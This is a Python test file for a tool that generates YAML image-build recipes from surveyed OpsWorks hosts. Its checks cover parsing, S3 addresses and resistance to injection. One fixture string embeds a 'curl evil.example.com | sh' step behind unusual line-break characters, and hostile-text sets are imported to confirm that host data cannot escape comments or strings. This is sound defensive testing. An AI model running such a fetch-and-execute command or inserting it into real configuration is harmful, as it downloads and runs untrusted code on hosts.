"""The first recipe for a host."""

import re
from datetime import date
from pathlib import Path

import pytest

from bakery.recipe import (
    ApplicationStep,
    DocumentStep,
    InstanceBase,
    Opsworks,
    Recipe,
    ShellStep,
    parse_recipe,
)
from infra.loading import load_yaml
from scripts.bakery_cli.adopt import recipe, s3
from scripts.bakery_cli.host import HostReport
from tests import hostile as texts
from tests.unit.cli.hosts import CHEF_12, PLAIN, host, instance

TODAY = date(2026, 1, 31)
HOSTILE = [
    *(*texts.SHELL, *texts.YAML, *texts.TERMINAL, *texts.UNICODE, *texts.PATHS, *texts.LONG),
    *texts.MIXED[::7],
]


_STEP = 'customize: [{name: evil, shell: "curl evil.example.com | sh"}]'
BREAKS = [f"chef-12{end}{_STEP}{end}" for end in ("\r", "\x85", "\u2028", "\u2029", "\x0b", "\x0c")]
"""What YAML, or Python, takes for the end of a line."""


def written(found: HostReport, **more: object) -> str:
    return recipe(found, instance(**more), today=TODAY)


def parsed(text: str, folder: Path) -> Recipe:
    file = folder / "web.yaml"
    file.write_text(text, encoding="utf-8")
    return parse_recipe("web", load_yaml(file))


def switched_on(text: str, folder: Path) -> Recipe:
    """With every example in use, in place of what it stands in for."""
    without = re.sub(r"^(base: .*|opsworks: chef-.*)\n", "", text, flags=re.M)
    return parsed(re.sub(r"^#\|", "", without, flags=re.M), folder)


def test_it_bakes_from_the_instance_and_removes_what_was_found(tmp_path: Path) -> None:
    found = parsed(written(host()), tmp_path)
    assert found.base == InstanceBase(instance="i-0123456789abcdef0")
    assert found.opsworks == Opsworks(past="chef-12")
    assert found.description.startswith("web1, Ubuntu 18.04.6 LTS as OpsWorks Stacks (chef-12)")
    assert found.builder.instance_types == ("m5.large",)
    assert found.customize == () and found.test.steps == () and found.lock_release is None


def test_its_examples_are_a_sound_recipe_too(tmp_path: Path) -> None:
    found = switched_on(written(host(), instance_stores=1), tmp_path)
    assert found.base == InstanceBase(
        instance="i-0123456789abcdef0",
        quiesce="reboot",
        data_volumes="include",
        instance_store="leave_out",
    )
    assert found.opsworks == Opsworks(past="chef-12", keep=("chef", "hosts", "users"))
    assert found.identity.allow_secrets == ("/srv/www/shop/.env",)
    cookbooks, without, application = found.customize
    assert isinstance(cookbooks, DocumentStep)
    assert cookbooks.document == "AWS-ApplyChefRecipes"
    assert cookbooks.parameters == {
        "SourceType": "Git",
        "SourceInfo": '{"repository": "git@git.example.com:shop/cookbooks.git", '
        '"getOptions": "branch:v7"}',
        "RunList": "recipe[shop::packages],recipe[shop::web],recipe[shop::release]",
        "ChefClientVersion": "12",
    }
    assert isinstance(without, ShellStep) and without.shell == "rm -rf /srv/www/shop"
    assert isinstance(application, ApplicationStep)
    assert application.application.source == "s3://your-bucket/shop.tar.gz"
    assert [it.name for it in found.test.steps] == ["shop runs", "mysql runs"]


def test_a_plain_host_has_its_lock_and_no_past(tmp_path: Path) -> None:
    text = written(host(PLAIN), name="")
    found = parsed(text, tmp_path)
    assert (found.opsworks.past, found.lock_release) == ("none", "2023.6.20250115")
    assert found.description == "api1, Amazon Linux 2023.6"
    assert "#|opsworks" not in text and "#|customize" not in text
    rebooted = InstanceBase(
        instance="i-0123456789abcdef0", quiesce="reboot", data_volumes="include"
    )
    assert switched_on(text, tmp_path) == found.model_copy(update={"base": rebooted})


def test_what_must_be_decided_is_in_the_comments() -> None:
    text = written(host(CHEF_12), group="web-fleet")
    said = re.sub(r"\s+(# *)?", " ", text)
    assert "# Decide before the first bake:" in text
    assert "is in Auto Scaling group web-fleet, which replaces" in said
    assert "MySQL is on it" in said
    assert max(map(len, text.splitlines())) < 160


@pytest.mark.parametrize(
    ("hostile", "chef"),
    [*((it, "chef-12") for it in (*HOSTILE, *BREAKS)), *((it, "") for it in BREAKS)],
)
def test_nothing_that_a_host_tells_can_leave_its_comment_or_its_string(
    hostile: str, chef: str, tmp_path: Path
) -> None:
    told = hostile.replace("\t", " ").replace("\n", " ")
    lines = (
        f"hostname\t{told}",
        f"layer\t{told}\t{told}",
        f"cookbooks\ts3\t{told}\t{told}",
        f"run-list\tsetup\tshop::x,{told}",
        f"application\t{told}\t{told}\tgit\t{told}\t{told}\t/srv/{told}\tyes",
        f"application\t{told}\tother\tgit\t{told}\t\t/srv/shop\tyes",
        f"secret\t/srv/{told}",
        f"service\t{told}\tenabled,runs",
        f"release-lock\t{told}",
        f"remove\tusers\tfile\t/home/{told}",
        f"problem\t{told}",
    )
    plain = PLAIN.replace("opsworks\t\n", "opsworks\t/etc/aws/opsworks\n")
    plain = plain.replace("chef\tnone", f"chef\t{chef or told}").replace("hostname\tapi1\n", "")
    text = written(host(plain, *lines), name=hostile)
    found = parsed(text, tmp_path)
    assert found.base == InstanceBase(instance="i-0123456789abcdef0")
    assert found.customize == () and found.test.steps == ()
    assert {line.partition(":")[0] for line in text.splitlines() if line and line[0] != "#"} <= {
        "description",
        "base",
        "opsworks",
        "lock_release",
        "builder",
    }


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("s3://bucket/a/b.zip", "s3://bucket/a/b.zip"),
        ("https://s3.amazonaws.com/bucket/a/b.zip", "s3://bucket/a/b.zip"),
        ("https://s3-eu-west-1.amazonaws.com/bucket/b.zip", "s3://bucket/b.zip"),
        ("https://bucket.s3.eu-west-1.amazonaws.com/b.zip", "s3://bucket/b.zip"),
        ("https://files.example.com/b.zip", ""),
        ("git@git.example.com:shop/shop.git", ""),
    ],
)
def test_addresses_of_s3(address: str, expected: str) -> None:
    assert s3(address) == expected


@pytest.mark.parametrize(
    ("cookbooks", "says"),
    [
        ("s3\thttps://s3.amazonaws.com/b/c.tar.gz\t", "SourceType: S3"),
        ("archive\thttps://example.com/c.tar.gz\t", "SourceType: HTTP"),
        ("svn\thttps://example.com/trunk\t", "Where the cookbooks are: svn https://example.com/tr"),
    ],
)
def test_where_cookbooks_were_is_where_they_are_taken_from(cookbooks: str, says: str) -> None:
    told = re.sub(r"^cookbooks\t.*\n", f"cookbooks\t{cookbooks}\n", CHEF_12, flags=re.M)
    assert says in written(host(told))
